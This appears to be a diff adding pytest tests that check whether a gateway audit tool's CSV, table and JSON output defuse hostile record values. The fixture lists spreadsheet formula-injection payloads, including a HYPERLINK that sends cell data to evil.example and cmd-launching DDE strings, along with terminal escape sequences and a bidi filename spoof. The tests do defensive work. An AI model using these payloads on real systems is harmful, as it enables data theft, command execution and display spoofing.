@@ -158,3 +158,79 @@ def test_a_directory_without_a_gateway_database_is_refused(tmp_path: Path, capsy
     assert code == 2 and out == ""
     assert f"no gateway database in {missing} (is --data-dir the directory serve uses?)" in err
     assert not missing.exists()  # nothing was created there
+
+
+# What a caller can put in a record (a tool name, a path, a method) and what it would do where the record is read.
+HOSTILE = {
+    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "plus": "+cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+    "title": "\x1b]0;owned\x07",
+    "clear": "\x1b[2J\x1b[H",
+    "csi8": "\x9b31mred",
+    "bidi": "evil\u202etxt.exe",
+    "zero-width": "ad\u200bmin",
+    "nul": "a\x00b",
+    "line separator": "a\u2028b",
+}
+
+
+@pytest.fixture
+def hostile_dir(tmp_path: Path) -> Path:
+    async def fill() -> None:
+        async with Database.open(tmp_path) as db:
+            await AuditStore(db).write(
+                [event(i, tool=text, error=text, request_id=key) for i, (key, text) in enumerate(HOSTILE.items())]
+            )
+
+    anyio.run(fill)
+    return tmp_path
+
+
+def raw_controls(text: str) -> list[str]:
+    """Every character of `text` a terminal or a spreadsheet would act on rather than show (newlines aside)."""
+    import unicodedata
+
+    return [c for c in text if c != "\n" and (unicodedata.category(c)[0] == "C" or unicodedata.category(c) in "ZlZp")]
+
+
+def test_csv_defuses_formulas_and_shows_controls(hostile_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    code, out, err = audit(hostile_dir, capsys, "--format", "csv")
+    assert code == 0, err
+    rows = {r["request_id"]: r for r in csv.DictReader(io.StringIO(out))}
+    expected = {
+        "formula": "'" + HOSTILE["formula"],
+        "plus": "'" + HOSTILE["plus"],
+        "minus": "'" + HOSTILE["minus"],
+        "at": "'" + HOSTILE["at"],
+        "tab": "\\t=1+1",
+        "cr": "\\r=1+1",
+        "title": "\\x1b]0;owned\\x07",
+        "clear": "\\x1b[2J\\x1b[H",
+        "csi8": "\\x9b31mred",
+        "bidi": "evil\\u202etxt.exe",
+        "zero-width": "ad\\u200bmin",
+        "nul": "a\\x00b",
+        "line separator": "a\\u2028b",
+    }
+    assert {key: row["tool"] for key, row in rows.items()} == expected
+    assert {key: row["error"] for key, row in rows.items()} == expected
+    for row in rows.values():
+        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
+    assert raw_controls(out.replace("\r\n", "\n")) == []
+
+
+def test_table_and_json_show_controls_instead_of_obeying_them(
+    hostile_dir: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, out, err = audit(hostile_dir, capsys)
+    assert code == 0, err
+    assert raw_controls(out) == []
+    assert "\\x1b]0;owned\\x07" in out and "evil\\u202etxt.exe" in out
+    assert len(out.splitlines()) == len(HOSTILE) + 1  # nothing a caller sent broke a line
+    code, out, err = audit(hostile_dir, capsys, "--format", "json")
+    assert code == 0 and out.isascii()
+    assert {json.loads(line)["request_id"]: json.loads(line)["tool"] for line in out.splitlines()} == HOSTILE
